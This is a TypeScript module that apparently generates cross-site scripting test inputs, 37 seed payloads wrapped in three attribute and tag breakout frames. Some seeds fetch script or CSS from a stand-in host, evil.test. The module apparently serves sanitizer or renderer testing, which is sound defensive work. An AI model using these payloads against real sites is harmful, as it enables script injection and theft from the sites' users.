/** What runs where text is taken for markup, for an attribute, for an address, for a template or for a style. */
const seeds: readonly string[] = [
  '<script>XSS</script>', '<ScRiPt>XSS</sCrIpT>', '<script src=//evil.test/x.js></script>', '<img src=x onerror=XSS>', '<img src=x onerror="XSS">', '<svg onload=XSS>', '<svg><script>XSS</script></svg>',
  '<svg><animate onbegin=XSS attributeName=x dur=1s>', '<body onload=XSS>', '<iframe srcdoc="<script>XSS</script>"></iframe>', '<iframe src="javascript:XSS"></iframe>', '<object data="javascript:XSS">',
  '<embed src="javascript:XSS">', '<a href="javascript:XSS">klik</a>', '<a href="JaVaScRiPt&colon;XSS">klik</a>', '<a href="data:text/html,<script>XSS</script>">klik</a>', '<form action="javascript:XSS"><button>klik</button>',
  '<input autofocus onfocus=XSS>', '<details open ontoggle=XSS>', '<video><source onerror=XSS>', '<math><mtext><table><mglyph><style><img src=x onerror=XSS>', '<noscript><p title="</noscript><img src=x onerror=XSS>">',
  '<style>@import "//evil.test/x.css";</style>', '<link rel=stylesheet href=//evil.test/x.css>', '<meta http-equiv=refresh content="0;url=javascript:XSS">', '<base href="//evil.test/">', '<template><script>XSS</script></template>',
  'javascript:XSS', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'vbscript:XSS', '{{constructor.constructor("XSS")()}}', '${XSS}', '<%= XSS %>', '#{XSS}', '[[XSS]]', '__proto__', 'constructor',
];
const frames: readonly ((seed: string) => string)[] = [(seed) => seed, (seed) => `"><${seed}`, (seed) => `'></textarea></title></script>${seed}<!--`];

/** 111 texts, each at most 150 characters; `effect` is what a script of them would do. */
export function hostileTexts(effect: string): readonly string[] {
  return seeds.flatMap((seed) => frames.map((frame) => frame(seed.replaceAll('XSS', effect))));
}
